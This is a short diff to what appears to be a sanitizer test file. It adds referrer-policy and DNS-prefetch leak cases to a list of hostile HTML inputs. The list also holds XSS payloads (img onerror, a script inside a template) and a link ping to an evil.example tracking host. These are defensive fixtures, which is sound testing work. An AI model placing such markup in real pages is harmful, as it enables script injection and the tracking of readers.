@@ -67,6 +67,8 @@ MARKDOWN_CASES = {
     "noscript parsing trick": page('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
     "link ping": page('<a href="/en/" ping="https://evil.example/track">x</a>'),
     "template": page("<template><script>alert(1)</script></template>"),
+    "referrer policy loosened": page('<meta name="referrer" content="unsafe-url">'),
+    "dns prefetch of another host": page('<link rel="dns-prefetch" href="//reader-was-here.evil.example">'),
 }
 OTHER_CASES = {
     "site template": Case("", "templates/default.html",
